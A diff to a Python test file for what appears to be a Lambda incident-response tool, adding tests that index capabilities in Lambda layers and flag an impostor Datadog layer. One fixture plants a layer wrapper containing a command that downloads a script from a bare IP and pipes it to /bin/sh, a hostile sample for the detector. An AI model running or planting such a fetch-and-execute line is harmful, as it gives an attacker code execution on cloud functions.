@@ -12,6 +12,7 @@ from lambda_ir.evidence.index import open_index
 from lambda_ir.model import Severity
 from tests.analyze.casebuild import (
     ACCOUNT,
+    REGION,
     CaseBuilder,
     function_config,
     run_detector,
@@ -181,6 +182,15 @@ def _function(builder: CaseBuilder, name: str, releases: list[str | bytes]) -> N
 
 def test_capabilities_table_per_version(builder: CaseBuilder) -> None:
     _function(builder, "notifier", [READER_PY, BACKDOOR_PY])
+    layer_arn = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:hooks:3"
+    hook = zip_bytes({"bin/wrapper": "#!/bin/sh\ncurl -s http://198.51.100.9/x | /bin/sh\n"})
+    builder.layer(layer_arn, hook)
+    broken = zip_bytes({"index.js": "module.exports = (;", "app.py": READER_PY})
+    builder.code(broken, "mixed", "1")
+    builder.versions(
+        "mixed",
+        [function_config("mixed", "1", code=broken, role=ROLE_ARN, layers=[layer_arn])],
+    )
     con = open_index(Case.open(builder.root))
     rows = con.execute(
         "SELECT version, file, line, kind, value, parser FROM capabilities "
@@ -190,6 +200,17 @@ def test_capabilities_table_per_version(builder: CaseBuilder) -> None:
     assert ("2", "app.py", 11, "aws-call", "iam:UpdateAssumeRolePolicy", "python-ast") in rows
     files = con.execute("SELECT file, parser FROM capability_files ORDER BY file").fetchall()
     assert ("README.txt", "text-patterns") in files and ("app.py", "python-ast") in files
+    (note,) = con.execute("SELECT note FROM capability_files WHERE file = 'index.js'").fetchone()
+    assert note == "does not parse as JavaScript: syntax error near line 1"
+    layered = con.execute(
+        "SELECT source, layer_arn, file, line, kind, value FROM capabilities "
+        "WHERE function_name = 'mixed' ORDER BY source, line, kind"
+    ).fetchall()
+    assert layered == [
+        ("code", None, "app.py", 8, "aws-call", "dynamodb:GetItem"),
+        ("layer", layer_arn, "bin/wrapper", 2, "exec", "/bin/sh"),
+        ("layer", layer_arn, "bin/wrapper", 2, "network", "http://198.51.100.9"),
+    ]
     assert isinstance(con, duckdb.DuckDBPyConnection)
 
 
@@ -226,3 +247,24 @@ def test_first_version_with_iam_write_and_admin_role(builder: CaseBuilder) -> No
 
 def _run(builder: CaseBuilder, detector: object) -> list:
     return run_detector(builder, detector)
+
+
+def test_a_vendor_layer_is_not_a_gain_but_a_look_alike_is(builder: CaseBuilder) -> None:
+    agent = zip_bytes({"extensions/agent": "#!/bin/sh\ncurl -s https://intake.example.net\n"})
+    genuine = f"arn:aws:lambda:{REGION}:464622532012:layer:Datadog-Extension:65"
+    impostor = f"arn:aws:lambda:{REGION}:999988887777:layer:Datadog-Extension:1"
+    for arn in (genuine, impostor):
+        builder.layer(arn, agent)
+    blob = zip_bytes({"app.py": READER_PY})
+    builder.code(blob, "traced", "1")
+    builder.versions(
+        "traced",
+        [
+            function_config("traced", "1", code=blob, role=ROLE_ARN),
+            function_config("traced", "2", code=blob, role=ROLE_ARN, layers=[genuine]),
+            function_config("traced", "3", code=blob, role=ROLE_ARN, layers=[impostor]),
+        ],
+    )
+    (finding,) = _run(builder, cap_gained.DETECTOR)
+    assert finding.resource.endswith("function:traced:3")
+    assert "network https://intake.example.net (extensions/agent:2)" in finding.summary
